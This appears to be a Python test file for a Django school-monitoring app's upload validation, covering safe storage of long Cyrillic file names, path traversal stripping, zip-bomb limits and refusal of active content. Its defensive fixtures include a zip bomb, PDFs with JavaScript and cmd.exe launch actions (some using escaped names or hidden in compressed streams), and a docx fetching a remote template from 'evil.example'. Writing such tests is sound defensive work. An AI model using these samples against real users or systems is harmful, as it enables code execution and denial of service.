"""Uploads (issue 16, item 7): stored under generated names through one helper, whatever the user's file
name; zip bombs by total size and part count; PDFs with JavaScript or launch actions and Word documents with a
remote template are refused."""

import io
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from curators.models import MessageAttachment, Thread, VisitAttachment
from medk.lib import uploads
from monitoring.models import Evidence
from monitoring.services import stages as monitoring_services
from roadmaps.models import DocumentVersion
from schools.models import ImportJob
from tests.conftest import login
from tests.curators import helpers as h
from tests.roadmaps.conftest import docx
from tests.schools.xlsx import xlsx

PDF = h.PDF
# 250 Cyrillic characters and the extension: 500+ bytes in UTF-8, twice what a file name may have on disk.
LONG_STEM = ("Протокол заседания педагогического совета школы " * 6)[:250]
LONG_NAME = LONG_STEM + ".pdf"


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def assert_stored_safely(file_field, shown: str) -> None:
    stored = Path(file_field.name)
    assert len(stored.name.encode()) <= 64 and stored.name.isascii()
    assert Path(file_field.path).exists()
    assert shown.startswith(LONG_STEM[:200]) and shown.endswith(".pdf") and len(shown) <= 255


def test_a_long_cyrillic_name_on_a_visit_attachment(cast):
    visit = h.visit(cast)
    response = login(cast.curator).post(
        reverse("curators:visit_attachment_create", args=[visit.pk]), {"file": h.pdf_upload(LONG_NAME)}
    )
    assert response.status_code == 302
    attachment = VisitAttachment.objects.get()
    assert_stored_safely(attachment.file, attachment.name)
    download = login(cast.director).get(reverse("curators:visit_attachment_download", args=[attachment.pk]))
    assert "filename*=UTF-8''" in download["Content-Disposition"]


def test_a_long_cyrillic_name_on_a_question_and_on_an_answer(cast):
    client = login(cast.director)
    response = client.post(
        reverse("curators:thread_create", args=[cast.school_a.pk]),
        {"kind": "curator", "subject": "Файл", "body": "См. файл", "file": h.pdf_upload(LONG_NAME)},
    )
    assert response.status_code == 302
    thread = Thread.objects.get()
    response = login(cast.curator).post(
        reverse("curators:message_create", args=[thread.pk]), {"body": "Ответ", "file": h.pdf_upload(LONG_NAME)}
    )
    assert response.status_code == 302
    assert MessageAttachment.objects.count() == 2
    for attachment in MessageAttachment.objects.all():
        assert_stored_safely(attachment.file, attachment.name)


def test_a_long_cyrillic_name_on_monitoring_evidence(cast):
    from tests.monitoring.test_stages import IN_WINDOW

    h.calendar(cast)
    h.confirmed_roadmap(cast)
    report = monitoring_services.report_start(
        school=cast.school_a, year=cast.year, stage=1, by=cast.director, today=IN_WINDOW
    )
    response = login(cast.director).post(
        reverse("monitoring:evidence_create", args=[report.pk]), {"file": h.pdf_upload(LONG_NAME), "title": "П"}
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert_stored_safely(evidence.file, evidence.name)


def test_a_long_cyrillic_name_on_a_school_document(cast):
    response = login(cast.director).post(
        reverse("roadmaps:document_upload", kwargs={"school_pk": cast.school_a.pk}),
        {"kind": "concept", "file": SimpleUploadedFile(LONG_NAME, PDF)},
    )
    assert response.status_code == 302
    version = DocumentVersion.objects.get()
    assert_stored_safely(version.file, version.original_name)


def test_a_long_cyrillic_name_on_an_import_file(cast):
    name = LONG_STEM + ".xlsx"
    response = login(cast.admin).post(
        reverse("schools:import_job_create"),
        {"kind": "coordinators", "year": cast.year.pk, "file": SimpleUploadedFile(name, xlsx([["ФИО"]]))},
    )
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert Path(job.file.name).name.isascii()
    assert job.original_name.startswith(LONG_STEM[:200]) and job.original_name.endswith(".xlsx")


def test_the_display_name_keeps_the_extension_and_drops_paths():
    assert uploads.display_name("C:\\Users\\Иван\\" + LONG_NAME).endswith(".pdf")
    assert len(uploads.display_name("я" * 400 + ".docx")) == 255
    assert uploads.display_name("../../etc/passwd") == "passwd"
    assert (
        uploads.storage_name("x/1", "отчёт.PDF").startswith("x/1/")
        and uploads.storage_name("x", "a.PdF")[-4:] == ".pdf"
    )


# --- Zip bombs ---------------------------------------------------------------------------------------------


def refused(name: str, content: bytes, allowed=frozenset(uploads.KINDS)) -> str:
    with pytest.raises(ValidationError) as exc:
        uploads.validate_upload(SimpleUploadedFile(name, content), allowed=set(allowed))
    return " ".join(exc.value.messages)


def test_many_parts_of_one_mebibyte_are_a_zip_bomb_by_their_total():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w/>")
        for n in range(290):
            archive.writestr(f"word/media/part{n}.bin", b"\0" * (1024 * 1024 - 1))
    assert len(out.getvalue()) < 1024 * 1024
    assert "zip-бомб" in refused("bomb.docx", out.getvalue())


def test_too_many_parts_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w/>")
        for n in range(uploads.ZIP_MAX_ENTRIES):
            archive.writestr(f"word/p{n}.xml", "")
    assert "слишком много частей" in refused("parts.docx", out.getvalue())


def test_an_ordinary_docx_still_passes():
    assert uploads.validate_upload(SimpleUploadedFile("Концепция.docx", docx()), allowed={"docx"}) == "docx"


# --- Active content ----------------------------------------------------------------------------------------


def pdf_with(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
        b"1 0 obj<</Type/Catalog/OpenAction<</S/Java#53cript/J#53(x)>>>>endobj",  # escaped names
        b"2 0 obj<</Type/ObjStm/Filter/FlateDecode/Length 99>>stream\n"
        + zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
        + b"\nendstream endobj",  # hidden in a compressed object stream
    ],
)
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(body):
    assert "JavaScript или команды запуска" in refused("a.pdf", pdf_with(body))


def test_an_ordinary_pdf_with_compressed_pages_passes():
    page = (
        b"3 0 obj<</Length 40/Filter/FlateDecode>>stream\n"
        + zlib.compress(b"BT /F1 12 Tf (JSON) Tj ET")
        + b"\nendstream"
    )
    assert uploads.validate_upload(SimpleUploadedFile("a.pdf", pdf_with(page)), allowed={"pdf"}) == "pdf"


def docx_with_rels(rels: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in zipfile.ZipFile(io.BytesIO(docx())).infolist():
            archive.writestr(info.filename, zipfile.ZipFile(io.BytesIO(docx())).read(info))
        archive.writestr("word/_rels/settings.xml.rels", rels)
    return out.getvalue()


def test_a_docx_with_a_remote_template_is_refused():
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert "внешний шаблон" in refused("a.docx", docx_with_rels(rels))


def test_a_docx_with_an_ordinary_external_hyperlink_passes():
    rels = (
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://fioco.ru/" TargetMode="External"/></Relationships>'
    )
    assert uploads.validate_upload(SimpleUploadedFile("a.docx", docx_with_rels(rels)), allowed={"docx"}) == "docx"
